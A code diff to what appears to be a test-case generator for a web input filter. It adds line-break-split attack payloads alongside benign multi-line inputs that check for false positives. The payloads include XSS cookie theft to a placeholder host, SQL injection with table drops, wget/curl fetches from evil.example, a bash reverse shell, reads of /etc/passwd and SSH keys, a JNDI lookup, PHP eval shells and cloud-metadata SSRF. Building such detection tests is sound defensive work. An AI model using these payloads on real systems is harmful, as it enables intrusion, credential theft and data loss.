@@ -154,6 +154,62 @@ ATTACKS = {
     "svg_and_picture": '<svg xmlns="http://www.w3.org/2000/svg"><path d="M1 1"/></svg><img src=x onerror=alert(1)>',
     "svg_after_attribute": '"><svg xmlns="http://www.w3.org/2000/svg"><path d="M1 1"/></svg>',
 }
+# The same with line breaks where a blank would do, before the sign and after it: they cost an attacker nothing.
+ATTACKS_BROKEN = {
+    "xss_handler": "<img\nsrc=x\nonerror=alert(1)>",
+    "xss_handler_crlf": "<svg\r\nonload=alert(1)>",
+    "xss_script": "<script>\nalert(1)\n</script>",
+    "xss_script_first": "\n<script>alert(1)</script>",
+    "xss_script_last": "<script>alert(1)</script>\r\n",
+    "xss_greeting": "hello\r\n\r\n<script>\r\nfetch('//e.example/'+document.cookie)\r\n</script>",
+    "xss_between_lines": "hello\n<img src=x onerror=alert(1)>\nbye",
+    "xss_attribute": '"\nonfocus=alert(1)\nautofocus x="',
+    "xss_link": "<a\nhref='javascript:alert(1)'>x</a>",
+    "xss_scheme": "javascript:\n\nalert(1)",
+    "xss_statement": "';\nalert(1);//",
+    "xss_frame": "<iframe\t\n\nsrc='javascript:alert(1)'>",
+    "xss_import": "<style>\n@import 'http://e.example/x'",
+    "sql_tautology": "x\n' or 1=1 -- ",
+    "sql_tautology_spread": "'\nor\n'1'='1",
+    "sql_tautology_end": "' or 1=1 -- \n",
+    "sql_tautology_number": "1\r\nor\r\n1=1",
+    "sql_union": "1\nunion\nselect\npassword\nfrom\nusers",
+    "sql_union_crlf": "-1'\r\nunion\r\nall\r\nselect\r\n1,2,3-- ",
+    "sql_comment": "admin'\n--",
+    "sql_comment_last": "admin'--\n",
+    "sql_stacked": "1;\ndrop table\nusers; --",
+    "sql_delay": "1'\nand\n\nsleep(5)\n#",
+    "sql_delay_query": "(select\nsleep(5))",
+    "sql_catalogue": "1'\nand exists (select\n*\nfrom\ninformation_schema.tables) --",
+    "command_after_separator": ";\ncat /etc/passwd",
+    "command_after_break": "127.0.0.1\r\ncat /etc/passwd",
+    "command_after_name": "a.pdf;\r\nid",
+    "command_before_separator": "a.pdf\n; wget http://evil.example/x",
+    "command_pipe": "|\n\n id",
+    "command_substitution": "$(\ncurl evil.example\n)",
+    "command_substitution_last": "$(curl evil.example)\n",
+    "command_callback": "bash -i\n>& /dev/tcp/198.51.100.7/443\n0>&1",
+    "traversal": "../../../../etc/passwd\n",
+    "traversal_file": "\r\n/etc/passwd\r\n",
+    "traversal_keys": "\n~/.ssh/id_ed25519",
+    "traversal_kernel": "/proc/self/environ\r\n",
+    "template_arithmetic": "{{\n7*7\n}}",
+    "template_python": "{{\r\n''.__class__\r\n}}",
+    "template_lookup": "\n${jndi:ldap://evil.example/x}",
+    "template_tag": "<%=\n7*7\n%>",
+    "code_php": "<?php\nsystem('id');\n?>",
+    "code_php_crlf": "<?php\r\n\r\neval($_POST['x']);",
+    "code_call_last": "system('id');\n",
+    "code_node": "x');\nrequire('child_process').execSync('id');//",
+    "code_node_first": "\r\nrequire('child_process').execSync('id')",
+    "code_python": "__import__('os')\n.system('id')",
+    "ldap_filter": "*)(\nuid=*",
+    "ldap_filter_spread": "*)\r\n(uid=*))\r\n(|(uid=*",
+    "xpath_position": "'] |\n//user[position()=1]\n| a['",
+    "nosql_javascript": "a'\n||\nthis.role ==\n'admin",
+    "ssrf_host": "\r\nhttp://host.docker.internal/",
+    "ssrf_metadata": "http://169.254.169.254/latest/meta-data/\n",
+}
 # field -> what it must not hold, sent as a form and as JSON
 ATTACK_FIELDS = {
     "password_condition": ("password", "x' or 1=1 -- "),
@@ -379,6 +435,60 @@ LEGITIMATE = {
     "svg_in_text": '<p>Hello</p><svg xmlns="http://www.w3.org/2000/svg"><path d="M1 1"/></svg>',
     "svg_declared": '<?xml version="1.0" encoding="UTF-8"?><svg xmlns="http://www.w3.org/2000/svg"><path d="M1 1"/></svg>',
 }
+# Values of several lines that people write.
+LEGITIMATE_LINES = {
+    "address": "Anna O'Neil\n12 Or Street\nUnion City, NJ 07087\nUSA",
+    "address_company": "Drop & Sons Ltd.\r\nUnit 3; Gate B\r\n1 = 2nd floor\r\nLeeds LS1 4AP",
+    "comment": "Great post!\n\nI'd like to see more; thanks.\nJane",
+    "comment_signs": "a < b and c > d\nso a <b> is fine :-)\n\n-- \nTom",
+    "comment_quotes": "He said \"no\" or \"maybe\".\nShe didn't.\n'Tis what it is",
+    "poem": "Roses are red,\nViolets are blue;\nselect what you like\nfrom all that is new.",
+    "poem_apostrophes": "'Twas night\nand o'er the hill\nor 'neath the moon\nthe dog's still",
+    "haiku": "sleep (5 more minutes)\nupdate the old calendar\nwhere is my coffee",
+    "list": "- milk\n- eggs; 12\n- cat food\n- find a gift",
+    "list_numbers": "1) set the date\n2) who is in?\n3) last: id cards",
+    "markdown": "# Title\n\nSome *text* & [a link](https://example.org/?a=1&b=2)\n\n> quote\n\n| a | b |\n|---|---|\n| 1 | 2 |",
+    "markdown_code": "Run this:\n\n```\ncurl -L https://example.org | tar xz\n```\nand wait",
+    "markdown_inline": "Use `id` or `ls -la`\nthen `make install`",
+    "markdown_tree": "src\n+-- lib\n|   `-- main.js\n`-- test",
+    "ticket_python": "def total(items):\n    return sum(i.price for i in items if i.kind == 'a')",
+    "ticket_python_class": "class Shape:\n    def __init__(self, name):\n        self.name = name",
+    "ticket_javascript": "const path = require('path')\nconst log = require('./log')\n\nmodule.exports = { path, log }",
+    "ticket_javascript_process": "if (process.env.DEBUG) {\n  console.log('started', name)\n}",
+    "ticket_javascript_compare": "if (line === '') {\n  continue\n}",
+    "ticket_javascript_exports": "module.exports.get = get\nmodule.exports.verify = verify",
+    "ticket_c": "int main(void)\n{\n    puts(\"hi\");\n    return 0;\n}",
+    "ticket_rust": "fn main() {\n    let x = a && b || c;\n    println!(\"{x}\");\n}",
+    "ticket_java": "for (int i = 0; i < n; i++) {\n    sum += values[i];\n}",
+    "ticket_php_include": "include('header.inc')\nthen the menu is missing\ninclude('menu.inc')",
+    "ticket_css": "body {\n  margin: 0;\n  background: #fff;\n}",
+    "trace_python": "Traceback (most recent call last):\n  File \"app.py\", line 3, in <module>\n    main()\nKeyError: 'id'",
+    "trace_java": "java.lang.NullPointerException: Cannot invoke \"User.getId()\"\n\tat com.example.App.main(App.java:12)\n\tat java.base/java.lang.Thread.run(Thread.java:833)",
+    "trace_javascript": "TypeError: x is not a function\n    at Object.<anonymous> (/srv/app/index.js:4:1)\n    at node:internal/main/run_main_module:23:47",
+    "yaml": "name: build\non:\n  push:\n    branches: [main]\njobs:\n  test:\n    runs-on: ubuntu-latest",
+    "yaml_values": "select: all\nfrom: 2024-01-01\nwhere: 'Leeds'\nlimit: 10",
+    "ini": "[main]\nname = 'x'\nlevel = 3\n; a comment\n# another",
+    "ini_unit": "[Unit]\nAfter=network.target\nOnFailure=mail.service\nOnFailureJobMode=replace",
+    "ini_backup": "# Default: BACKUP_SUFFIX = .gz\nBACKUP_SUFFIX = .xz",
+    "sql_in_ticket": "The report is slow:\nSELECT name, total FROM invoices\nWHERE customer_id = 7\nORDER BY total;",
+    "sql_in_ticket_join": "select a.id, b.name\nfrom a join b on a.id = b.id\norder by b.name",
+    "sql_table": "create table t (\n  id int primary key,\n  name text\n);",
+    "html_text": "<p>Hello <b>world</b></p>\n<ul>\n<li>one</li>\n<li>two</li>\n</ul>",
+    "html_link": "<h2>News</h2>\n<p>See <a href=\"https://example.org/a?b=1\">this</a>.</p>\n<img src=\"/media/a.jpg\" alt=\"A\">",
+    "html_icon": '<a class="home" href="/">\n<svg role="img" viewBox="0 0 16 16">\n<path d="M1 1"></path>\n</svg>\n</a>',
+    "html_style": "<style>\nbody {\n  margin: 0;\n}\n</style>",
+    "html_comment": "-->\n<family>Sans</family>\n<!-- more -->",
+    "log_lines": "10:01 INFO started\n10:02 WARN retry = 3; wait 5\n10:03 ERROR timeout",
+    "mail": "Hi all,\r\n\r\nplease select a date from the list; or call me.\r\n\r\nBest,\r\nO'Brien",
+    "mail_quote": "> is it a or b?\n> 'a' = 'b'?\n\nIt's a.",
+    "prompt_python": ">>> # it turns special signs into entities for you\n>>> escape(\"<script>alert(1);</script>\")",
+    "ending": "Jane O'Connor\r\n",
+    "leading": "\r\n\r\nA & B; then C",
+    "csv": "id,name,role\n1,O'Neil,admin\n2,\"Smith, J\",user",
+    "diff": "--- a/x.c\n+++ b/x.c\n@@ -1,2 +1,2 @@\n-if (a == 1)\n+if (a == 2)",
+    "recipe": "200 g flour; 2 eggs\n1/2 cup milk\n\nWhisk & fry (5 min).",
+    "lyrics": "Let it be, let it be\nand/or not -- who knows?\n(x2)",
+}
 
 
 def transaction(name, label, method, uri, headers, body=b""):
@@ -413,6 +523,7 @@ def queries(cases, label):
 
 def attacks():
     yield from both(ATTACKS, "attack")
+    yield from both({f"{name}_broken": value for name, value in ATTACKS_BROKEN.items()}, "attack")
     yield from fields(ATTACK_FIELDS, "attack")
     yield from queries(ATTACK_QUERIES, "attack")
     # A harmless value that the same rule looks at, after the attack and before it.
@@ -441,6 +552,7 @@ def attacks():
 
 def legitimate():
     yield from both(LEGITIMATE, "legit")
+    yield from both({f"{name}_lines": value for name, value in LEGITIMATE_LINES.items()}, "legit")
     yield from fields(LEGITIMATE_FIELDS, "legit")
     yield from queries(LEGITIMATE_QUERIES, "legit")
     for name, kind, body in (
